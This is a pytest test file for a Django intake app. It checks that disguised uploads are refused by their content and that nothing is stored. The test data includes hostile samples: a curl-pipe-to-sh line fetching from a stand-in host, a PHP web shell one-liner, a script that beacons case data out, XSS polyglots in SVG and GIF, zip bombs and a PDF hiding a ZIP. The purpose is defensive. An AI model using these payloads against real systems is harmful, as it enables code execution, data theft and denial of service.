"""Disguised files sent with a signal, through the real form of a logged-in reporter, are refused
by what they are, not by their name. tests/test_upload_validation.py already proves the PDFs with
scripts, the deflate bombs behind a PDF header, the 65535 × 65535 PNG, the JPEG/HTML polyglot, an
HTML page and an executable named .jpg, and tests/test_request_size.py the oversized file; here
are the disguises it did not have yet."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from schakel.intake.models import Signal, SignalAttachment

from .test_signal_details import report as report_signal
from .test_upload_validation import pdf, photo, png_claiming

pytestmark = pytest.mark.django_db

SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


DISGUISES = {
    "shell-script.jpg": b"#!/bin/sh\ncurl https://x.example/p | sh\n",
    "php-script.jpg": b"<?php system($_GET['c']); ?>",
    "javascript.png": b"fetch('/cases/').then(r => r.text()).then(t => navigator.sendBeacon(t))",
    "svg-with-script.jpg": SVG,
    "svg-with-script.svg": SVG,
    "svg-with-script.png": b"\x89PNG\r\n\x1a\n" + SVG,  # a PNG signature, then the SVG
    "gif-javascript-polyglot.jpg": b"GIF89a/*\x00\x00\x00\x00*/=alert(document.domain);//",
    "gif-html-polyglot.png": photo("GIF") + b"<html><script>alert(1)</script></html>",
    "zip-as.pdf": zip_of({"factuur.exe": b"MZ" + b"\0" * 1000}),
    "zip-bomb.pdf": zip_of({f"nul-{n}.bin": b"\0" * 20_000_000 for n in range(3)}),
    "zip-bomb.jpg": zip_of({"nul.bin": b"\0" * 50_000_000}),
    "png-30000x30000.png": png_claiming(30_000, 30_000),
    "png-30000x30000-named.pdf": png_claiming(30_000, 30_000),
}


@pytest.fixture
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("filename", sorted(DISGUISES))
def test_a_disguised_file_is_refused_next_to_the_field_and_nothing_is_stored(
    client, municipal_reporter, private_media, filename
):
    client.force_login(municipal_reporter)
    response = report_signal(
        client, municipal_reporter, files=[SimpleUploadedFile(filename, DISGUISES[filename])]
    )
    assert response.status_code == 200  # the form again, with the file named
    (error,) = response.context["form"].errors["attachments"]
    assert filename in error
    assert not Signal.objects.exists() and not SignalAttachment.objects.exists()


def test_a_pdf_that_is_also_a_zip_is_refused_as_carrying_an_embedded_file(
    client, municipal_reporter, private_media
):
    """The archive after %%EOF is invisible to a PDF reader and was stored as sent, ZIP and all,
    until the check looked for an archive's directory too."""
    polyglot = pdf() + zip_of({"payload.html": b"<script>alert(1)</script>"})
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    client.force_login(municipal_reporter)
    response = report_signal(
        client, municipal_reporter, files=[SimpleUploadedFile("scan.pdf", polyglot)]
    )
    assert response.status_code == 200
    (error,) = response.context["form"].errors["attachments"]
    assert "scan.pdf" in error and "ingesloten bestand" in error  # an embedded file
    assert not SignalAttachment.objects.exists()
